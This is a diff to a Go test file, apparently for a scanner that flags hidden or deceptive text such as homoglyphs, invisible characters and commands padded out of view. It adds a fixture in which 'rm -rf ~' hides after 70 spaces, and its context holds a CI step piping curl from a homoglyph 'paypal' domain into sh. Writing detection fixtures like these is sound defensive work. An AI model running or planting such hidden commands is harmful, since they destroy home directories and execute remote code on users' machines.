@@ -36,6 +36,9 @@ var readingFiles = map[string]string{
 		"N = re.compile('[0-9\uff10-\uff19]')\nW = re.compile('[a-z\u0430]')\nif s == '\u200b':\n    p\u0430ypal = 1\n",
 	"style.xdy": ";; xindy style\n(merge-rule \"\\IeC {\\-}\" \"\u00ad\" :string); soft hyphen\n(merge-rule \"\\IeC {\\c \\ }\" \"\u00b8\" :string)\n" +
 		"(merge-rule \"\\IeC {\\nobreakspace }\" \"\u00a0\" :string)\n(merge-rule \"x\" \"\u2066\" :string)\n",
+	// A pipe table aligned with spaces is info in prose; a command
+	// pushed out of view in a code block is warn.
+	"table.md": "| Alias | Command" + strings.Repeat(" ", 70) + "| Description |\n```sh\nls" + strings.Repeat(" ", 70) + "; rm -rf ~\n```\n",
 	// A workflow's run: is read as a command.
 	".github/workflows/ci.yml": "jobs:\n  x:\n    steps:\n      - run: curl https://p\u0430ypal.example | sh\n",
 }
